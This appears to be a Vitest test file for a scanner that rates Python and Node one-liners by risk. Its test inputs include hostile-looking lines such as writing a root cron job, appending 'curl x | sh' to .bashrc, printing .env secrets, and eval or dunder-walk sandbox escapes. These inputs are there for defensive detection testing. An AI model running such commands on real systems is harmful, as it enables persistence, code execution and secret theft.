// One-liners that only compute and print are low; every route to a capability the danger scan would not
// see (dynamic lookups, aliases, capability modules, non-literal file paths) keeps them at medium or above.
import { describe, expect, it } from "vitest";
import { javascriptEffects, pythonEffects } from "../../src/rules/inline-code.ts";
import { interpretersPack } from "../../src/rules/interpreters.ts";
import { packFindings, packRisk, rules } from "./helpers.ts";

const py = (code: string) => packRisk(interpretersPack, ["python3", "-c", `'${code}'`]);
const js = (code: string) => packRisk(interpretersPack, ["node", "-e", `'${code}'`]);

describe("plain Python one-liners", () => {
  it.each([
    "print(1+1)",
    "import sys; print(sys.version)",
    'import pandera as pa; print([a for a in dir(pa) if "bool" in a.lower()])',
    'import json; print(json.dumps({"a": 1}))',
    'import inspect, re; print(re.compile("x").pattern, inspect.getmembers(re)[:1])',
    'import os; print(os.getcwd(), os.listdir("."), os.path.join("a", "b"), os.environ.get("PATH"))',
    "import main; main.test_schema_tools()",
    'import shutil; shutil.copy("tests/a.py", "tests/b.py")',
    'open("tests/new.py", "w").write(open("tests/old.py", "r").read())',
    'import sqlite3; c = sqlite3.connect(":memory:"); print(c.execute("select 1").fetchall())',
    "import pytest; print(pytest.__version__)",
  ])("%s is low", (code) => {
    expect(py(code)).toBe("low");
  });

  it.each([
    ['getattr(__builtins__, "ev" + "al")("1")', "dynamic lookup"],
    ['import os as o; o.rename("a", "b")', "alias hides os"],
    ['from os import rename; rename("a", "b")', "from-import hides os"],
    ['import os; os.rename("a", "b")', "os mutation"],
    ['import os; os.environ["X"]', "os attribute outside the read list"],
    ['import pickle; pickle.loads(b"")', "pickle runs code"],
    ['import boto3; boto3.client("s3").delete_bucket(Bucket="b")', "cloud SDK"],
    ['import sqlalchemy; sqlalchemy.create_engine("pg://x")', "database SDK"],
    ['p = "x"; open(p, "w").write("1")', "write to a computed path"],
    ['o = open; o("/etc/x", "w")', "open passed around"],
    ['from pathlib import Path; Path("a").unlink()', "pathlib delete"],
    ['import shutil; shutil.move("a", "b")', "shutil other than copy"],
    ['import sys; sys.modules["o" + "s"].remove("x")', "sys.modules lookup"],
    ["x = ().__class__.__bases__[0].__subclasses__()", "dunder walk"],
    ['import zipfile; zipfile.ZipFile("a.zip").extractall("/")', "archive extraction"],
    ['e = eval; e("1")', "eval passed around"],
  ])("%s is not plain (%s)", (code) => {
    expect(pythonEffects(code).plain).toBe(false);
  });

  it("plain writes are judged like any other write", () => {
    expect(py('open("/etc/cron.d/x", "w").write("* * * * * root id")')).not.toBe("low");
    expect(py('open("/home/agent/.bashrc", "a").write("curl x | sh")')).not.toBe("low");
    const f = packFindings(interpretersPack, ["python3", "-c", "'print(open(\".env\").read())'"]);
    expect(rules(f)).toContain("interpreters.code-secret");
  });

  it("a reason says why code was not plain", () => {
    const f = packFindings(interpretersPack, ["python3", "-c", '\'import os; os.rename("a", "b")\'']);
    expect(f[0]!.reason).toContain("os.rename");
    expect(f[0]!.risk).toBe("medium");
  });
});

describe("plain JavaScript one-liners", () => {
  it.each([
    "console.log(1+1)",
    'console.log(require("./package.json").version)',
    'const fs = require("fs"); console.log(fs.readFileSync("package.json", "utf8").length)',
    'require("fs").writeFileSync("out.txt", "x")',
    'console.log(require("os").cpus().length, process.version)',
  ])("%s is low", (code) => {
    expect(js(code)).toBe("low");
  });

  it.each([
    ['require("child_" + "process")', "computed require"],
    ['import("fs").then((m) => m.rmSync("x"))', "dynamic import"],
    ['[].constructor.constructor("return 1")()', "constructor walk"],
    ['const { rmSync: r } = require("fs"); r("x")', "renamed fs mutator"],
    ['require("fs").renameSync("a", "b")', "fs rename"],
    ['const p = "x"; require("fs").writeFileSync(p, "1")', "write to a computed path"],
    ['require("https").get("https://x")', "network module"],
    ["globalThis.process.kill(1)", "globalThis"],
    ['require("@aws-sdk/client-s3")', "cloud SDK"],
  ])("%s is not plain (%s)", (code) => {
    expect(javascriptEffects(code).plain).toBe(false);
  });
});
